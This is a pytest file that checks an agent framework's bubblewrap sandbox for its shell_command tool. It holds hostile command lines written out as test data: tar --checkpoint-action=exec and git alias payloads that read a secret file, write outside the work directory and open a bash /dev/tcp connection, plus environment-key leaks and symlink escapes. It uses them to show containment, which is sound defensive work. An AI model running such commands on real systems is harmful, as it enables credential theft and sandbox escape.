"""Hostile command lines against shell_command, run for real under real bubblewrap: the
environment's secrets, interpreters under other names, symlinks and path flags that word
checks miss, a flood of output, and programs that run commands of their own (tar
checkpoint actions, git aliases) — contained by the OS, not by the words."""

from __future__ import annotations

import logging
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentloom.errors import ConfigError, ToolError
from agentloom.loop import ToolContext
from agentloom.tools import SandboxPolicy
from agentloom.tools._isolation import detect_bwrap
from agentloom.tools.builtins import ShellCommandTool

CTX = ToolContext()
SECRET = "TOP-SECRET-OUTSIDE"
KEY = "sk-test-must-not-leak-0123456789"


@pytest.fixture(autouse=True)
def _bwrap_works() -> None:
    found = detect_bwrap()
    # scripts/ensure-bwrap.sh installs it; without it these tests would prove nothing.
    assert found.available, found.problem


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, Path]:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (work / "notes.txt").write_text("b\na\n")
    (outside / "secret.txt").write_text(SECRET)
    return work, outside


def shell(work: Path, *commands: str, network: bool = False, **kw: object) -> ShellCommandTool:
    policy = SandboxPolicy(allowed_commands=commands, allowed_paths=(str(work),),
                           allow_network=network, **kw)  # type: ignore[arg-type]
    return ShellCommandTool(policy=policy, timeout=30)


async def outcome(tool: ShellCommandTool, command: list[str] | str) -> str:
    """The output, or the error text: either way, what the model would see."""
    try:
        return str(await tool({"command": command}, CTX))
    except ToolError as exc:
        return str(exc)


# --- the environment ------------------------------------------------------------------


async def test_the_child_gets_no_secret_from_the_environment(
        tree: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    work, _ = tree
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", KEY)
    monkeypatch.setenv("KEEP_ME", "kept")
    tool = shell(work, "printenv", env=("KEEP_ME", "SET_HERE=yes"))
    with pytest.raises(ToolError, match="status 1") as info:
        await tool({"command": "printenv OPENAI_API_KEY"}, CTX)
    assert KEY not in str(info.value)
    everything = await tool({"command": "printenv"}, CTX)
    assert KEY not in everything
    names = {line.split("=", 1)[0] for line in everything.splitlines()}
    assert {"PATH", "HOME", "LANG", "TMPDIR", "KEEP_ME", "SET_HERE"} <= names
    assert "OPENAI_API_KEY" not in names and "AWS_SECRET_ACCESS_KEY" not in names


def test_env_entries_are_checked() -> None:
    with pytest.raises(ConfigError, match=r"sandbox\.env"):
        SandboxPolicy(env=("not a name",))


# --- interpreters under any name --------------------------------------------------------


@pytest.mark.parametrize("name", ["python3.11", "python3", "mawk", "nawk", "gawk", "awk",
                                  "perl5.36", "pypy3", "node18", "bash", "dash", "busybox",
                                  "/usr/bin/awk"])
def test_interpreters_need_the_opt_in_under_every_name(name: str) -> None:
    with pytest.raises(ConfigError, match="danger_opt_in"):
        SandboxPolicy(allowed_commands=(name,))
    assert SandboxPolicy(allowed_commands=(name,), danger_opt_in=(name,)).allowed_commands


def test_an_interpreter_behind_an_innocent_symlink_is_still_one(tmp_path: Path) -> None:
    link = tmp_path / "innocent"
    link.symlink_to(os.path.realpath(sys.executable))
    with pytest.raises(ConfigError, match="danger_opt_in"):
        SandboxPolicy(allowed_commands=(str(link),))


def test_commands_resolve_to_absolute_executables_at_load() -> None:
    policy = SandboxPolicy(allowed_commands=("cat", "no-such-program-here"))
    cat = policy.executable("cat")
    assert cat is not None and os.path.isabs(cat) and os.access(cat, os.X_OK)
    assert policy.executable(cat) == cat  # the absolute form is the same command
    assert policy.executable("no-such-program-here") is None
    assert policy.executable("ls") is None  # not allowed


async def test_a_program_not_found_is_a_clear_error(tree: tuple[Path, Path]) -> None:
    work, _ = tree
    tool = shell(work, "no-such-program-here")
    with pytest.raises(ToolError, match="program not found"):
        await tool({"command": "no-such-program-here"}, CTX)


# --- paths the word checks miss --------------------------------------------------------


async def test_a_symlink_in_an_allowed_directory_leads_nowhere(
        tree: tuple[Path, Path]) -> None:
    work, outside = tree
    (work / "link").symlink_to(outside / "secret.txt")
    (work / "dirlink").symlink_to(outside)
    tool = shell(work, "cat")
    assert SECRET not in await outcome(tool, "cat link")
    assert SECRET not in await outcome(tool, "cat dirlink/secret.txt")
    assert await outcome(tool, "cat notes.txt") == "b\na\n"  # the allowed file is there


async def test_an_output_flag_glued_to_a_path_writes_nothing_outside(
        tree: tuple[Path, Path]) -> None:
    work, outside = tree
    tool = shell(work, "sort")
    await outcome(tool, ["sort", f"-o{outside / 'sorted'}", "notes.txt"])
    assert not (outside / "sorted").exists()
    await outcome(tool, ["sort", "-osorted", "notes.txt"])  # inside: it works
    assert (work / "sorted").read_text() == "a\nb\n"


async def test_only_the_allowed_paths_are_visible(tree: tuple[Path, Path]) -> None:
    work, _ = tree
    tool = shell(work, "ls")
    listing = await outcome(tool, "ls -a .")
    assert "notes.txt" in listing
    home = await outcome(tool, ["ls", "-a", str(work.parent)])
    assert "outside" not in home  # the parent shows the path to work, nothing else


async def test_readable_paths_are_mounted_read_only(tree: tuple[Path, Path]) -> None:
    work, outside = tree
    policy = SandboxPolicy(allowed_commands=("cp", "cat"), readable_paths=(str(outside),),
                           allowed_paths=(str(work),))
    tool = ShellCommandTool(policy=policy, timeout=30)
    assert await outcome(tool, ["cat", str(outside / "secret.txt")]) == SECRET
    await outcome(tool, ["cp", "notes.txt", str(outside / "copy.txt")])
    assert not (outside / "copy.txt").exists()


# --- programs that run programs ----------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback TCP server that never accepts: a connection that reached it waits in
    its backlog, where the test finds it afterwards (no timing involved)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    try:
        yield server
    finally:
        server.close()


def reached(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


def _hostile(work: Path, outside: Path, port: int) -> str:
    """Read a secret, write outside, call home; and leave a mark inside, which shows the
    command did run (in the box)."""
    return (f"touch {work / 'ran'}; cat {outside / 'secret.txt'}; touch {outside / 'pwned'}; "
            f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'; true")


async def test_a_tar_checkpoint_action_is_contained(
        tree: tuple[Path, Path], listener: socket.socket) -> None:
    work, outside = tree
    tool = shell(work, "tar")
    port = listener.getsockname()[1]
    out = await outcome(tool, ["tar", "-cf", "a.tar", "--checkpoint=1",
                               f"--checkpoint-action=exec={_hostile(work, outside, port)}",
                               "notes.txt"])
    assert SECRET not in out
    assert not (outside / "pwned").exists()
    assert not reached(listener)
    assert (work / "ran").exists() and (work / "a.tar").is_file()  # it ran, in the box


async def test_a_git_alias_is_contained(tree: tuple[Path, Path],
                                        listener: socket.socket) -> None:
    work, outside = tree
    tool = shell(work, "git")
    port = listener.getsockname()[1]
    out = await outcome(tool, ["git", "-c", f"alias.x=!{_hostile(work, outside, port)}", "x"])
    assert SECRET not in out
    assert not (outside / "pwned").exists()
    assert not reached(listener)
    assert (work / "ran").exists()


async def test_network_is_there_only_when_allowed(tree: tuple[Path, Path],
                                                 listener: socket.socket) -> None:
    # The contrast that shows the listener test can see a connection at all.
    work, _ = tree
    port = listener.getsockname()[1]
    command = ["tar", "-cf", "a.tar", "--checkpoint=1",
               f"--checkpoint-action=exec=bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'",
               "notes.txt"]
    await outcome(shell(work, "tar"), command)
    assert not reached(listener)
    await outcome(shell(work, "tar", network=True), command)
    assert reached(listener)


# --- floods and timeouts ---------------------------------------------------------------


async def test_a_flood_is_cut_at_the_cap_and_the_call_returns(
        tree: tuple[Path, Path]) -> None:
    work, _ = tree
    tool = ShellCommandTool(policy=SandboxPolicy(allowed_commands=("yes",),
                                                 allowed_paths=(str(work),)), timeout=2)
    out = await tool({"command": "yes"}, CTX)
    assert out.endswith("[output truncated at 1000000 bytes; the program was stopped]")
    assert out.startswith("y\ny\n") and len(out) < 1_000_100


def test_a_flood_does_not_hang_agentloom_run(tmp_path: Path) -> None:
    (tmp_path / "wf.yaml").write_text("""\
name: flood
config:
  sandbox: {allowed_commands: ["yes"], allowed_paths: ["."], max_output_bytes: 5000}
steps:
  - {id: y, type: tool, tool_name: shell_command, tool_args: {command: "yes", timeout: 2},
     output: flood}
""")
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY")}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2])
    # The bound is a safety net for a regression (a hang), not a timing assertion.
    done = subprocess.run([sys.executable, "-m", "agentloom.cli", "run", "wf.yaml",
                           "--json"], cwd=tmp_path, env=env, capture_output=True, text=True,
                          timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "output truncated at 5000 bytes" in done.stdout


# --- the isolation setting ---------------------------------------------------------------


def test_isolation_takes_three_values() -> None:
    assert SandboxPolicy().isolation == "auto"
    assert SandboxPolicy.from_config({"isolation": "none"}).isolation == "none"
    assert SandboxPolicy.from_config({"env": ["A", "B=1"]}).env == ("A", "B=1")
    with pytest.raises(ConfigError, match="auto, bwrap, none"):
        SandboxPolicy.from_config({"isolation": "docker"})


@pytest.mark.parametrize("mode", ["auto", "bwrap"])
async def test_without_bubblewrap_commands_are_refused(tree: tuple[Path, Path],
                                                       mode: str) -> None:
    work, _ = tree
    tool = shell(work, "cat", isolation=mode)
    tool.bwrap_locations = (str(work / "no-bwrap-here"),)
    with pytest.raises(ToolError, match=r"sandbox\.isolation: none"):
        await tool({"command": "cat notes.txt"}, CTX)


async def test_isolation_none_runs_unisolated_with_a_warning(
        tree: tuple[Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    work, _ = tree
    tool = shell(work, "cat", isolation="none")
    tool.bwrap_locations = (str(work / "no-bwrap-here"),)
    with caplog.at_level(logging.WARNING, logger="agentloom.tools"):
        assert await tool({"command": "cat notes.txt"}, CTX) == "b\na\n"
    assert "without OS isolation" in caplog.text


def test_agentloom_info_reports_the_isolation() -> None:
    from agentloom.cli.info import collect, render

    facts = collect({})
    assert facts["isolation"]["available"] is True
    assert facts["isolation"]["bwrap"].endswith("bwrap")
    assert "isolation: bubblewrap" in render(facts)


def test_an_interpreter_in_the_workflow_file_is_a_load_error(tmp_path: Path) -> None:
    from agentloom.errors import WorkflowError
    from agentloom.workflow import load_workflow

    path = tmp_path / "wf.yaml"
    path.write_text("name: x\nconfig:\n  sandbox:\n    allowed_commands: [mawk]\n"
                    "steps:\n  - {id: a, type: tool, tool_name: shell_command,"
                    " tool_args: {command: mawk}}\n")
    # The line of the field itself (4: allowed_commands), not of the block above it.
    with pytest.raises(WorkflowError, match=r"wf\.yaml:4: config\.sandbox\.allowed_commands: "
                                            r"mawk can run any other command"):
        load_workflow(path)
